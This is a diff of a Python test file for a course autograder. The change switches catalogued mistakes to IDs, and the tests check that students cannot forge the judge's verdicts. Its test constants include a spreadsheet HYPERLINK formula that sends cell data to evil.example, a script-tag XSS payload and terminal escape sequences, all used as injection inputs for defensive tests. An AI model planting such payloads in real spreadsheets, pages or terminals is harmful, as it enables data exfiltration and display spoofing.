@@ -27,13 +27,15 @@ from course_judge.audit import Audit
 from course_judge.compare import NAMED_MISTAKE
 from course_judge.q3 import batch_stats, train_mistakes
 from course_judge.records import Fail
+from course_lib.mistakes import MISTAKES
 from course_recorder import MIME, Recorder, q3
 from course_recorder.inputs import seeded_input
 from submissions import csv_cells, not_inert
 
 NB, TEST, OTHER = "Q3_batchnorm", "test_train_mode_output", "test_eval_mode_output"
-# A real catalogued mistake of Q3's training-mode test (course_judge.q3.train_mistakes).
-EPS = "you left out eps: divide by sqrt(var + eps)."
+# A real catalogued mistake of Q3's training-mode test (course_judge.q3.train_mistakes): its id and its sentence.
+EPS_ID = "norm.no_eps"
+EPS = MISTAKES[EPS_ID]
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 SCRIPT = "<script>alert(1)</script>"
 ESCAPES = "\x1b[2J\x1b]0;pwned\x07\u202eevil\u202c\x9b31m"
@@ -44,7 +46,7 @@ FORGED = f"boom\n{NAMED_MISTAKE}{EPS}\n{FORMULA}{SCRIPT}"
 def test_eps_is_a_catalogued_mistake():
     """The forgery below names a mistake the judge really has (else the attack would prove nothing)."""
     x = seeded_input(*q3.FRESH_X[0], seed=q3.FRESH_X[1])
-    assert EPS in train_mistakes(x, torch.ones(3, dtype=x.dtype), torch.zeros(3, dtype=x.dtype), 1e-5, 0.1)
+    assert EPS_ID in train_mistakes(x, torch.ones(3, dtype=x.dtype), torch.zeros(3, dtype=x.dtype), 1e-5, 0.1)
 
 
 # ---- the judge: the named mistake is data -------------------------------------------------------------------
@@ -65,7 +67,7 @@ def test_the_judge_names_a_catalogued_mistake_as_data():
         return (x - mean) / torch.sqrt(biased)
 
     verdict = _judged(no_eps)
-    assert not verdict.passed and verdict.mistake == EPS, (verdict.mistake, verdict.message)
+    assert not verdict.passed and verdict.mistake == EPS_ID, (verdict.mistake, verdict.message)
     assert f"{NAMED_MISTAKE}{EPS}" in verdict.message  # the student still reads it
 
 
@@ -83,18 +85,18 @@ def test_a_sentence_added_to_a_named_failure_keeps_its_mistake():
     one that raises a different failure names none."""
     def adds(r):
         try:
-            raise Fail(f"wrong\n{NAMED_MISTAKE}{EPS}", mistake=EPS)
+            raise Fail(f"wrong\n{NAMED_MISTAKE}{EPS}", mistake=EPS_ID)
         except Fail as err:
             raise Fail(f"{err}\nAlso, mind the defaults.") from None
 
     def replaces(r):
         try:
-            raise Fail(f"wrong\n{NAMED_MISTAKE}{EPS}", mistake=EPS)
+            raise Fail(f"wrong\n{NAMED_MISTAKE}{EPS}", mistake=EPS_ID)
         except Fail:
             raise Fail("something else went wrong") from None
 
     bundle = {"output_type": "display_data", "data": {MIME: {"test": "t", "version": 1, "records": {}}}, "metadata": {}}
-    assert judge_test(Spec("Q3", "t", adds), "t", [bundle], Audit()).mistake == EPS
+    assert judge_test(Spec("Q3", "t", adds), "t", [bundle], Audit()).mistake == EPS_ID
     assert judge_test(Spec("Q3", "t", replaces), "t", [bundle], Audit()).mistake is None
 
 
@@ -115,13 +117,13 @@ def test_the_judges_verdicts_replace_whatever_the_submission_carries(tmp_path, m
     # The student's own "verdicts": every test passed, one with a named mistake and a formula.
     submitted.metadata[judging.VERDICTS_KEY] = [{"grade_id": TEST, "passed": True, "points": 2, "max_points": 2,
                                                  "mistake": FORMULA, "message": SCRIPT}]
-    judged = NotebookVerdicts({TEST: Verdict(TEST, False, f"it failed\n{NAMED_MISTAKE}{EPS}", mistake=EPS),
+    judged = NotebookVerdicts({TEST: Verdict(TEST, False, f"it failed\n{NAMED_MISTAKE}{EPS}", mistake=EPS_ID),
                                OTHER: Verdict(OTHER, False, FORGED)})
     monkeypatch.setattr(judging, "judge_notebook", lambda nb, rel, name: judged)
     nb, _ = judging.JudgeVerdicts(release_dir=str(tmp_path)).preprocess(submitted, {"unique_key": f"x/{NB}"})
     data = nb.metadata[judging.VERDICTS_KEY]
     assert data == [
-        {"grade_id": TEST, "passed": False, "points": 0.0, "max_points": 2.0, "mistake": EPS,
+        {"grade_id": TEST, "passed": False, "points": 0.0, "max_points": 2.0, "mistake": EPS_ID,
          "message": f"it failed\n{NAMED_MISTAKE}{EPS}"},
         {"grade_id": OTHER, "passed": False, "points": 0.0, "max_points": 1.0, "mistake": None, "message": FORGED}]
     assert class_report.VERDICTS_KEY == judging.VERDICTS_KEY  # copied there (the report never imports torch)
@@ -158,7 +160,7 @@ def course(tmp_path, monkeypatch):
     `honest` made the catalogued mistake (the judge named it), `forger` and `formula` raised exceptions whose text
     is the judge's sentence (a real mistake, a formula), `old` was graded before verdicts were data."""
     students = {
-        "honest": [_verdict(TEST, f"the output is wrong\n{NAMED_MISTAKE}{EPS}", EPS, 2)],
+        "honest": [_verdict(TEST, f"the output is wrong\n{NAMED_MISTAKE}{EPS}", EPS_ID, 2)],
         "forger": [_verdict(TEST, f"training-mode output: the call raised ValueError: {FORGED}", None, 2)],
         FORMULA + ESCAPES: [_verdict(TEST, f"the call raised ValueError: x\n{NAMED_MISTAKE}{FORMULA}{SCRIPT}",
                                      None, 2)],
@@ -191,7 +193,7 @@ def test_a_students_text_never_makes_a_named_mistake(course):
     root, db_url = course
     report = class_report.collect(root, db_url, root / "grades.csv")
     named = [(t.test, m, who) for t, m, who in report.named]
-    assert named == [(TEST, EPS.rstrip("."), ["honest"])], named
+    assert named == [(TEST, EPS, ["honest"])], named
     test = next(t for t in report.tests if t.test == TEST)
     assert sorted(test.unnamed) == sorted(["forger", FORMULA + ESCAPES, "old"]), test.unnamed
 
